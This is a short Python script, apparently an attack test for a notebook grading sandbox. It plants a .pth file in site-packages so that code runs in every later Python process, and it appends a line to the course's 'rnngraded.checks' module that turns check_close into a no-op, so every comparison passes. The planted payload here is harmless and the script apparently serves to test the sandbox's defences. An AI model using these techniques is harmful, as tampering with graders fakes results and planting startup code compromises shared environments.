# attack: writing the environment or the course package
# A blank notebook plants a .pth file that would run in every later Python of the environment,
# and edits the course's checks so that every comparison passes (restoring them would hide it).
import site
import sys
from pathlib import Path

import rnngraded.checks

targets = [Path(p) / "zz_planted.pth" for p in site.getsitepackages()]
targets.append(Path(sys.base_prefix) / "lib" / "python3.11" / "zz_planted.pth")
for target in targets:
    try:
        target.write_text("import os; os.environ['PLANTED'] = '1'\n")
        print("planted", target)
    except Exception as err:
        print("could not plant", target, type(err).__name__, err)
checks_file = Path(rnngraded.checks.__file__)
try:
    with open(checks_file, "a") as handle:
        handle.write("\ncheck_close = lambda *a, **k: None\n")
    print("edited", checks_file)
except Exception as err:
    print("could not edit", checks_file, type(err).__name__, err)
